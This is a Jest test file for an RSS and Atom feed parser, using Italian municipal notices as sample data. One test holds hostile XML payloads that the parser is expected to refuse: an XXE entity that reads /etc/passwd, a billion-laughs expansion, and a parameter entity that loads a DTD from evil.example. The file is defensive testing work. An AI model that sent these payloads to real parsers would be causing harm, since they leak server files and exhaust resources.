import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { read } from '../read.js';
import { bytesInput } from '../source-input.js';
import { collect } from '../source-item.js';
import type { SourceDefinition } from '../source.js';
import { sourceById } from '../table-of-sources.js';

function feedSource(): SourceDefinition {
  const sample = sourceById('sovra-territoriali');
  if (!sample) throw new Error('the sample source is gone');
  return { ...sample, format: 'feed', keyFields: ['page'], options: { ...sample.options, columns: [] } };
}
const feed = (text: string | Uint8Array) => collect(read(feedSource(), bytesInput(text)));

const RSS = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>Bandi del Comune</title>
  <item>
    <title>Contributo affitto &amp; bollette &#8211; 2026</title>
    <link>https://comune.example/bandi/affitto</link>
    <guid isPermaLink="false">bando-12</guid>
    <category>Casa</category><category>Famiglie</category>
    <dc:creator>Ufficio casa</dc:creator>
    <content:encoded><![CDATA[<p>Domande <b>entro il 30/06/2026</b></p>]]></content:encoded>
    <pubDate>Mon, 02 Nov 2026 10:00:00 GMT</pubDate>
  </item>
  <item><title>Secondo</title><guid>https://comune.example/bandi/2</guid></item>
</channel></rss>`;

const ATOM = `<feed xmlns="http://www.w3.org/2005/Atom"><title>Bandi</title>
<entry><id>tag:comune.example,2026:1</id><title type="html">Centro &lt;b&gt;estivo&lt;/b&gt;</title>
<link rel="edit" href="https://comune.example/api/1"/><link href="https://comune.example/bandi/1"/>
<author><name>Ufficio</name><email>casa@comune.example</email></author>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Iscrizioni <em>aperte</em>, 3 &lt; 6 anni.</div></content>
</entry></feed>`;

describe('readFeed', () => {
  it('reads RSS under its own names, with the page of each item', async () => {
    const { records, problems } = await feed(RSS);
    expect(problems).toEqual([]);
    expect(records.map(({ position }) => position)).toEqual(['line 5', 'line 14']);
    expect(records[0]?.fields).toEqual({
      title: 'Contributo affitto & bollette – 2026',
      link: 'https://comune.example/bandi/affitto',
      guid: 'bando-12',
      'guid@isPermaLink': 'false',
      category: ['Casa', 'Famiglie'],
      'dc:creator': 'Ufficio casa',
      'content:encoded': '<p>Domande <b>entro il 30/06/2026</b></p>',
      pubDate: 'Mon, 02 Nov 2026 10:00:00 GMT',
      page: 'https://comune.example/bandi/affitto',
    });
    expect(records[1]?.fields['page']).toBe('https://comune.example/bandi/2');
  });

  it('reads Atom: the link that is the page, people, and markup kept as HTML', async () => {
    const { records, problems } = await feed(ATOM);
    expect(problems).toEqual([]);
    expect(records[0]?.fields).toEqual({
      id: 'tag:comune.example,2026:1',
      title: 'Centro <b>estivo</b>',
      'title@type': 'html',
      'link@rel': ['edit', null],
      'link@href': ['https://comune.example/api/1', 'https://comune.example/bandi/1'],
      author: { name: 'Ufficio', email: 'casa@comune.example' },
      content: '<div>Iscrizioni <em>aperte</em>, 3 &lt; 6 anni.</div>',
      'content@type': 'xhtml',
      page: 'https://comune.example/bandi/1',
    });
  });

  it('reads RSS 1.0, whose items stand beside the channel, in Windows-1252', async () => {
    const text =
      '<?xml version="1.0" encoding="iso-8859-1"?><rdf:RDF xmlns:rdf="x"><channel/><item><title>Citt\xe0</title></item></rdf:RDF>';
    expect((await feed(Buffer.from(text, 'latin1'))).records[0]?.fields['title']).toBe('Città');
  });

  it.each([
    ['XXE', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
    ['a billion laughs', '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;">'],
    ['parameter entities', '<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;'],
  ])('refuses %s', async (_, declarations) => {
    const { records, problems } = await feed(
      `<?xml version="1.0"?><!DOCTYPE rss [${declarations}]><rss><channel><item><title>&x;</title></item></channel></rss>`,
    );
    expect(records).toEqual([]);
    expect(problems).toEqual([expect.objectContaining({ code: 'FILE_UNREADABLE', field: 'DOCTYPE' })]);
  });

  it('takes a document type without declarations, and expands no entity of it', async () => {
    const { records, problems } = await feed(
      '<!DOCTYPE rss SYSTEM "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss><channel><item><title>Caff&egrave;</title></item></channel></rss>',
    );
    expect(records[0]?.fields['title']).toBe('Caff&egrave;');
    expect(problems).toEqual([expect.objectContaining({ code: 'ROW_MALFORMED', severity: 'WARNING' })]);
  });

  it('keeps the neighbours of an item that is written badly, and what stands before a break', async () => {
    const { records, problems } = await feed(
      '<rss><channel>\n<item><title>A & B</title><link>https://a.example/?b=1&c=2</link></item>\n<item><title>C</title></item>\n<item><title>D</ti',
    );
    expect(records.map(({ fields }) => fields['title'])).toEqual(['A & B', 'C']);
    expect(records[0]?.fields['page']).toBe('https://a.example/?b=1&c=2');
    expect(problems).toEqual([
      expect.objectContaining({ code: 'ROW_MALFORMED', severity: 'WARNING', position: 'line 2' }),
      expect.objectContaining({ code: 'FILE_UNREADABLE', severity: 'ERROR', position: 'line 4' }),
    ]);
  });

  it('leaves ampersands in CDATA and references across chunks as they are', async () => {
    const text =
      '<rss><channel><item><title>1 < 2 &amp; 3</title><link><![CDATA[https://a.example/?b=1&c=2]]></link></item></channel></rss>';
    const bytes = Buffer.from(text);
    const input = {
      size: bytes.length,
      open: async function* () {
        for (const byte of bytes) yield Uint8Array.of(byte);
      },
    };
    const { records } = await collect(read(feedSource(), input));
    expect(records[0]?.fields).toMatchObject({ title: '1 < 2 & 3', link: 'https://a.example/?b=1&c=2' });
  });

  it('leaves out an item nested without end, and keeps the next', async () => {
    const deep = `<item>${'<a>'.repeat(5000)}x${'</a>'.repeat(5000)}</item>`;
    const { records, problems } = await feed(`<rss><channel>${deep}<item><title>C</title></item></channel></rss>`);
    expect(records.map(({ fields }) => fields['title'])).toEqual(['C']);
    expect(problems).toEqual([expect.objectContaining({ code: 'ROW_MALFORMED', severity: 'ERROR' })]);
  });

  it.each(['<servizi><item/></servizi>', '<?xml version="1.0"?><OpenSearchDescription/>'])(
    'says what %s is not',
    async (text) => {
      expect((await feed(text)).problems).toEqual([
        expect.objectContaining({ code: 'FILE_WRONG_FORMAT', suggestion: expect.stringMatching(/RSS o Atom/) }),
      ]);
    },
  );

  it('is not taken for a web page because of pages inside it', async () => {
    expect(
      (await feed('<rss><channel><item><title><![CDATA[<html>]]></title></item></channel></rss>')).problems,
    ).toEqual([]);
  });

  it('never throws, wherever it is damaged', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(RSS, ATOM),
        fc.nat(900),
        fc.nat(40),
        fc.string({ unit: 'binary', maxLength: 20 }),
        async (whole, at, length, junk) => {
          const { problems } = await feed(whole.slice(0, at) + junk + whole.slice(at + length));
          expect(problems.filter(({ value }) => /^\w*Error$/.test(value ?? ''))).toEqual([]);
        },
      ),
      { numRuns: 300 },
    );
  });
});
